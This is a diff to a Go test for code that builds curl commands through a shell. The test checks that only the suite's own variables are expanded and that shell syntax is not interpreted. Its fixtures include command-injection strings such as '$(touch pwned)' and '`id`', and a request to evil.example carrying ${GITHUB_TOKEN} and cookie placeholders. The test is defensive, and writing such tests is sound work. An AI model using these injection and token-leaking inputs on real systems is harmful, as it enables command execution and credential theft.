@@ -39,15 +39,19 @@ func TestCurlThroughAShell(t *testing.T) {
 		want    []string
 	}{
 		{"secrets come from variables",
-			Request{Method: "DELETE", URL: "https://x.example/a?access_token=${reader_token}&b=1",
+			Request{Method: "DELETE", URL: "https://x.example/a?access_token=${READER_TOKEN}&b=1",
 				Header: header(map[string][]string{"Authorization": {"Bearer ${MODIFIER_TOKEN}x"}})},
 			[]string{"-i", "-X", "DELETE", "https://x.example/a?access_token=reader's $ecret&b=1",
 				"-H", "Accept: */*", "-H", "Authorization: Bearer modifier secretx"}},
 		{"nothing else is the shell's",
 			Request{Method: "DELETE", URL: "https://x.example/a'b$(touch pwned)`id`\\;&|<>*?!#~ ${1}$HOME",
-				Header: header(map[string][]string{"X": {`"'$HOME\`, "${HOME} is a variable, ${HO ME} is not"}})},
+				Header: header(map[string][]string{"X": {`"'$HOME\`, "${HOME} and ${AWS_SECRET_ACCESS_KEY} are variables, ${HO ME} is not"}})},
 			[]string{"-i", "-g", "-X", "DELETE", "https://x.example/a'b$(touch pwned)`id`\\;&|<>*?!#~ ${1}$HOME",
-				"-H", "Accept: */*", "-H", `X: "'$HOME\`, "-H", "X: /home is a variable, ${HO ME} is not"}},
+				"-H", "Accept: */*", "-H", `X: "'$HOME\`, "-H", "X: ${HOME} and ${AWS_SECRET_ACCESS_KEY} are variables, ${HO ME} is not"}},
+		{"other variables are not the suite's",
+			Request{Method: "DELETE", URL: "https://evil.example/${GITHUB_TOKEN}?a=${READER_EXPIRED_TOKEN}&b=${READER_HOME_TOKEN}", Header: header(map[string][]string{"X": {"${COOKIE} ${SIGNATURE}"}}), Body: NewBody([]byte("${HOME}"))},
+			[]string{"-i", "-g", "-X", "DELETE", "https://evil.example/${GITHUB_TOKEN}?a=an expired one&b=${READER_HOME_TOKEN}",
+				"-H", "Accept: */*", "-H", "X: ${COOKIE} ${SIGNATURE}", "-H", "Content-Type:", "--data-raw", "${HOME}"}},
 		{"a method that is no plain word",
 			Request{Method: "DEL ETE;", URL: "u", Header: header(map[string][]string{})},
 			[]string{"-i", "-X", "DEL ETE;", "u", "-H", "Accept: */*"}},
@@ -71,7 +75,7 @@ func TestCurlThroughAShell(t *testing.T) {
 			Request{Method: "DELETE", URL: "https://x.example/itwins/../[1-2]", Header: header(map[string][]string{})},
 			[]string{"-i", "-g", "--path-as-is", "-X", "DELETE", "https://x.example/itwins/../[1-2]", "-H", "Accept: */*"}},
 		{"a body of text",
-			Request{Method: "PUT", URL: "u", Header: header(map[string][]string{"Content-Type": {"text/plain"}}), Body: NewBody([]byte("@it's\n${reader_token}\n"))},
+			Request{Method: "PUT", URL: "u", Header: header(map[string][]string{"Content-Type": {"text/plain"}}), Body: NewBody([]byte("@it's\n${READER_TOKEN}\n"))},
 			[]string{"-i", "-X", "PUT", "u", "-H", "Accept: */*", "-H", "Content-Type: text/plain", "--data-raw", "@it's\nreader's $ecret\n"}},
 		{"a body that has no type gets none",
 			Request{Method: "PUT", URL: "u", Header: header(map[string][]string{}), Body: NewBody([]byte("x"))},
@@ -90,7 +94,7 @@ func TestCurlThroughAShell(t *testing.T) {
 			command.Dir = t.TempDir()
 			command.Env = []string{
 				"PATH=" + bin + string(os.PathListSeparator) + os.Getenv("PATH"),
-				"HOME=/home", "MODIFIER_TOKEN=modifier secret", "reader_token=reader's $ecret",
+				"HOME=/home", "AWS_SECRET_ACCESS_KEY=aws", "GITHUB_TOKEN=gh", "READER_EXPIRED_TOKEN=an expired one", "READER_HOME_TOKEN=no", "COOKIE=c", "SIGNATURE=s", "MODIFIER_TOKEN=modifier secret", "READER_TOKEN=reader's $ecret",
 			}
 			output, err := command.CombinedOutput()
 			g.Expect(err).NotTo(HaveOccurred(), "%s", output)
